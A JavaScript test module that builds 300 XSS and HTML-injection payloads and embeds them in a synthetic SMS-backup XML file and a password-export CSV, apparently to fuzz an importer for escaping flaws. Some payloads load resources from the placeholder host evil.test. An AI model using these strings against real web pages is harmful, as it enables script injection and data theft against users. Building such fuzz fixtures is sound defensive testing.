// Three hundred texts that would run, load or break out if a page let them.
const seeds = [
  (n) => `<script>alert(${n})</script>`, (n) => `"><img src=x onerror=alert(${n})>`, (n) => `'><svg/onload=alert(${n})>`,
  (n) => `</title><script>alert(${n})</script>`, (n) => `" onmouseover="alert(${n})`, (n) => `' autofocus onfocus='alert(${n})`,
  (n) => `<iframe srcdoc="<script>alert(${n})</script>">`, (n) => `<a href="javascript:alert(${n})">x</a>`, (n) => `<style>@import 'http://evil.test/${n}'</style>`,
  (n) => `<link rel=stylesheet href=//evil.test/${n}>`, (n) => `<img src=//evil.test/${n}>`, (n) => `<base href=//evil.test/${n}>`,
  (n) => `<meta http-equiv=refresh content="0;url=//evil.test/${n}">`, (n) => `<form action=//evil.test/${n}><button>`, (n) => `</textarea><script>alert(${n})</script>`,
  (n) => `{{${n}*7}}`, (n) => `\${alert(${n})}`, (n) => `<!--${n}--!><img src=x onerror=alert(${n})>`, (n) => `<details open ontoggle=alert(${n})>`,
  (n) => `&lt;script&gt;alert(${n})&lt;/script&gt;`, (n) => `\u202Ealert(${n})\u202C`, (n) => `<math><mi xlink:href="javascript:alert(${n})">`,
  (n) => `<video><source onerror=alert(${n})>`, (n) => `<object data="javascript:alert(${n})">`, (n) => `<embed src=//evil.test/${n}>`,
  (n) => `+ADw-script+AD4-alert(${n})`, (n) => `<x contenteditable onblur=alert(${n})>`, (n) => `]]><script>alert(${n})</script>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=alert(${n})>">`, (n) => `<svg><script href=//evil.test/${n}></script></svg>`,
];
export const payloads = Array.from({ length: 300 }, (_, n) => seeds[n % seeds.length](n));

const xml = (text) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
export function messages() {
  const rows = payloads.map((text, n) => `<sms protocol="0" address="${xml(n % 2 ? text.slice(0, 60) : `Shop${n}`)}" date="${1790000000000 + n * 60000}" type="1" body="${xml(n % 3 ? `${text}: your code is 48${1000 + n}` : `Your ${text} code is 48${1000 + n}`)}" read="1" status="-1" />`);
  return `<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>\n<smses count="${rows.length}">\n${rows.join("\n")}\n</smses>\n`;
}
export function passwords() {
  const cell = (text) => `"${text.replace(/"/g, '""')}"`;
  return `name,url,username,password\n${payloads.map((text, n) => [cell(text), cell(`https://shop${n}.example/`), cell(n % 2 ? "+77000001234" : text), cell("x")].join(",")).join("\n")}\n`;
}
